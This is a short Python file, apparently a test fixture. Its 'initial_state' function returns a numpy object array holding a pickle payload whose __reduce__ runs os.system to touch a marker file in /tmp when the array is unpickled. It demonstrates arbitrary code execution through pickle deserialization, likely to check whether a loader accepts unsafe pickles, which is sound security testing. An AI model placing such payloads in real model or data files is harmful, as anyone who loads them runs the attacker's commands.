"""Returns an object that would run a command where it is unpickled."""

import os

import numpy as np


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/unrolled-attack-pickle",)


def initial_state(batch, hidden):
    return np.array([Payload()], dtype=object)
